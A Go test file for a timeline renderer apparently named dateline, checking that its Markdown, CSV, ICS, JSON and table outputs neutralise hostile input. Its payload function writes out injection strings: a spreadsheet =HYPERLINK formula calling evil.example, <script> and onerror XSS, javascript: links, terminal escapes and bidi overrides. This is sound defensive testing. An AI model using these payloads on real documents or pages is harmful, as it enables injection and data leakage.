package render

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/emersion/go-ical"
	"github.com/gomarkdown/markdown/ast"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/dateline/dateline/resolve"
	"github.com/dateline/dateline/timeline"
	"github.com/rickb777/date/v2"
)

// A hostile timeline: `dateline query` renders any timeline JSON it is
// given, so every string field of it is untrusted. hostile.json has, in
// every string field of events, participants, dates, sources and reasons,
// a formula, a script, an event handler, Markdown, a line break, a
// terminal escape sequence, a right-to-left override and a NUL. Each
// format must keep it text.

// payload is the hostile text of one field, named by its path so that a
// leak says where it came from.
func payload(path string) string {
	return `=HYPERLINK("http://evil.example/` + path + `") <script>window.__pwned='` + path + `'</script>` +
		`<img src=x onerror="window.__pwned='` + path + `'"> ` + "\n# Heading " + path + "\n" +
		"[link](javascript:window.__pwned=1) ![img](x) `code` *em* | pipe | ~~s~~ &amp; \\ ; , " +
		"\x1b[31mred\x1b[0m \u202eevil\u202c nul\x00 \r\n- item {{.Title}} ]]> --> <!-- </TIMEX3>"
}

// fillStrings sets every exported string field under v to payload(path),
// making pointers and two-element slices on the way, so that a field
// added to the model later is covered without editing this test.
func fillStrings(v reflect.Value, path string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(payload(path))
	case reflect.Pointer:
		if v.IsNil() {
			v.Set(reflect.New(v.Type().Elem()))
		}
		fillStrings(v.Elem(), path)
	case reflect.Struct:
		for i := 0; i < v.NumField(); i++ {
			if f := v.Type().Field(i); f.IsExported() {
				fillStrings(v.Field(i), path+"."+f.Name)
			}
		}
	case reflect.Slice:
		if v.Len() == 0 {
			v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		}
		for i := 0; i < v.Len(); i++ {
			fillStrings(v.Index(i), fmt.Sprintf("%s[%d]", path, i))
		}
	}
}

// hostileTimeline is two events with every string field hostile: the
// first with a hostile granularity as well, the second a day, so that the
// formats that treat days and coarse dates apart see both.
func hostileTimeline() *timeline.Timeline {
	tl := &timeline.Timeline{Events: make([]timeline.Event, 2)}
	for i := range tl.Events {
		fillStrings(reflect.ValueOf(&tl.Events[i]).Elem(), fmt.Sprintf("events[%d]", i))
		e := &tl.Events[i]
		day := date.New(2022, 1, 3+i)
		e.When.Range = resolve.Range{First: day, Last: day}
		for j := range e.Conflicts {
			e.Conflicts[j].Range = resolve.Range{First: day + 1, Last: day + 1}
		}
		for j := range e.Sources {
			e.Sources[j].Published = day
		}
	}
	tl.Events[1].When.Granularity = resolve.GranDay
	tl.Events[1].Sources[1].URL = "https://example.org/a?<script>x</script>"
	tl.Schema = timeline.Schema
	return tl
}

// TestHostileFixture keeps testdata/render/hostile.json equal to
// hostileTimeline (go test ./render -update rewrites it), and checks that
// every string in it is hostile.
func TestHostileFixture(t *testing.T) {
	data, err := json.MarshalIndent(hostileTimeline(), "", "  ")
	require.NoError(t, err)
	path := filepath.Join(testdata, "hostile.json")
	if *update {
		require.NoError(t, os.WriteFile(path, append(data, '\n'), 0o644))
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err)
	assert.JSONEq(t, string(want), string(data), "go test ./render -update rewrites %s", path)

	var doc any
	require.NoError(t, json.Unmarshal(want, &doc))
	strs := 0
	var walk func(any, string)
	walk = func(v any, key string) {
		switch v := v.(type) {
		case map[string]any:
			for k, x := range v {
				walk(x, k)
			}
		case []any:
			for _, x := range v {
				walk(x, key)
			}
		case string:
			switch key {
			case "schema", "start", "end", "published":
				return // the formats the decoder checks
			case "granularity":
				if v == "day" {
					return // the second event's, on purpose
				}
			}
			strs++
			assert.Contains(t, v, "<script>", "field %s", key)
		}
	}
	walk(doc, "")
	assert.Greater(t, strs, 60, "strings in the fixture")
	tl := loadFixture(t, "hostile.json")
	require.Len(t, tl.Events, 2, "the decoder reads both events")
}

// renderHostile renders the hostile fixture in format.
func renderHostile(t *testing.T, format string) string {
	t.Helper()
	tl := loadFixture(t, "hostile.json")
	r, err := Lookup(format)
	require.NoError(t, err)
	if ics, ok := r.(*ICSRenderer); ok {
		ics.Coarse = true // the event of the hostile granularity too
	}
	var buf bytes.Buffer
	require.NoError(t, r.Render(&buf, tl), format)
	return buf.String()
}

// Every format renders the hostile timeline, and none lets a control
// character through raw, except the line structure of its own syntax.
func TestHostileEveryFormat(t *testing.T) {
	for _, format := range Formats {
		out := renderHostile(t, format)
		assert.NotEmpty(t, out, format)
		assert.NotContains(t, out, "\x1b", "%s: escape sequence", format)
		assert.NotContains(t, out, "\x00", "%s: NUL", format)
		switch format {
		case "json", "jsonl":
			for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
				if format == "jsonl" {
					assert.True(t, json.Valid([]byte(line)), "jsonl line")
				}
			}
			assert.True(t, format == "jsonl" || json.Valid([]byte(out)))
		case "table", "brief":
			lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
			want := 1 + 2
			if format == "brief" {
				want = 3 + 2
			}
			assert.Len(t, lines, want, "%s: one line per event", format)
			assert.NotContains(t, out, "\u202e", "%s: no bidi override on a terminal", format)
		}
	}
}

// Markdown: no raw HTML, no link but to http(s), no image, and the same
// headings as a timeline of plain text has: nothing injected.
func TestHostileMarkdown(t *testing.T) {
	for _, format := range []string{"md", "brief-md"} {
		md := renderHostile(t, format)
		o := outline(parseGFM(md))
		assert.Zero(t, o.htmlNodes, "%s: raw HTML", format)
		assert.Zero(t, o.links, "%s: links", format)
		assert.Zero(t, o.images, "%s: images", format)
		assert.Zero(t, o.strikeNodes, "%s: strikethrough", format)

		plain := hostileTimeline()
		for i := range plain.Events {
			fillPlain(reflect.ValueOf(&plain.Events[i]).Elem())
		}
		var buf bytes.Buffer
		r, _ := Lookup(format)
		require.NoError(t, r.Render(&buf, plain))
		benign := outline(parseGFM(buf.String()))
		assert.Len(t, o.headings, len(benign.headings), "%s: headings %q", format, o.headings)
		assert.Equal(t, benign.listItems, o.listItems, "%s: list items", format)
		assert.Equal(t, len(benign.quotes), len(o.quotes), "%s: quotes", format)
		for _, h := range o.headings {
			assert.NotContains(t, h, "\n", "%s: a heading is one line", format)
		}
		// Every link left is one the renderer made, to an http(s) URL.
		ast.WalkFunc(parseGFM(md), func(n ast.Node, entering bool) ast.WalkStatus {
			if l, ok := n.(*ast.Link); ok && entering {
				assert.Regexp(t, `^https?://`, string(l.Destination))
			}
			return ast.GoToNext
		})
	}
}

// pathOf finds the field path in a payload.
var pathOf = regexp.MustCompile(`^=HYPERLINK\("http://evil\.example/([^"]*)"\)`)

// fillPlain replaces every payload by plain words made of its path, so
// that what differed still differs.
func fillPlain(v reflect.Value) {
	switch v.Kind() {
	case reflect.String:
		if m := pathOf.FindStringSubmatch(v.String()); m != nil {
			v.SetString("plain " + regexp.MustCompile(`[^A-Za-z0-9]+`).ReplaceAllString(m[1], " "))
		}
	case reflect.Pointer:
		if !v.IsNil() {
			fillPlain(v.Elem())
		}
	case reflect.Struct:
		for i := 0; i < v.NumField(); i++ {
			if v.Type().Field(i).IsExported() {
				fillPlain(v.Field(i))
			}
		}
	case reflect.Slice:
		for i := 0; i < v.Len(); i++ {
			fillPlain(v.Index(i))
		}
	}
}

// CSV: it parses, every row has every column, and no cell would be
// evaluated by a spreadsheet or holds a control character other than a
// line break.
func TestHostileCSV(t *testing.T) {
	rows, err := csv.NewReader(strings.NewReader(renderHostile(t, "csv"))).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3)
	for _, row := range rows {
		require.Len(t, row, len(CSVHeader))
		for i, cell := range row {
			if cell == "" {
				continue
			}
			first := []rune(strings.TrimLeftFunc(cell, unicode.IsSpace))
			if len(first) > 0 {
				assert.NotContains(t, "=+-@＝＋－＠", string(first[0]), "column %s: %.40q", CSVHeader[i], cell)
			}
			assert.False(t, strings.ContainsAny(cell[:1], "\t\r\n"), "column %s starts with a break", CSVHeader[i])
			assert.False(t, strings.ContainsFunc(cell, func(r rune) bool {
				return unicode.IsControl(r) && r != '\n' && r != '\r' && r != '\t'
			}), "column %s: control character", CSVHeader[i])
		}
	}
}

// ICS: a real parser reads both events back, their text as it was once
// control characters are dropped.
func TestHostileICS(t *testing.T) {
	out := renderHostile(t, "ics")
	cal, err := ical.NewDecoder(strings.NewReader(out)).Decode()
	require.NoError(t, err)
	tl := loadFixture(t, "hostile.json")
	require.Len(t, cal.Events(), 2)
	for i, ev := range cal.Events() {
		summary, err := ev.Props.Text(ical.PropSummary)
		require.NoError(t, err)
		want := strings.Map(func(r rune) rune {
			if unicode.IsControl(r) && r != '\n' && r != '\t' {
				return -1
			}
			return r
		}, strings.ReplaceAll(tl.Events[i].Title, "\r\n", "\n"))
		assert.Equal(t, want, summary)
		assert.Nil(t, ev.Props.Get(ical.PropURL), "no URL that is not a web address without markup")
	}
	for _, line := range strings.Split(out, "\r\n") {
		assert.NotContains(t, line, "\n")
		assert.LessOrEqual(t, len(line), 75)
	}
	assert.NotRegexp(t, regexp.MustCompile(`(?m)^(BEGIN|END):(?:VEVENT|VCALENDAR)\r?\n.*# Heading`), out)
}
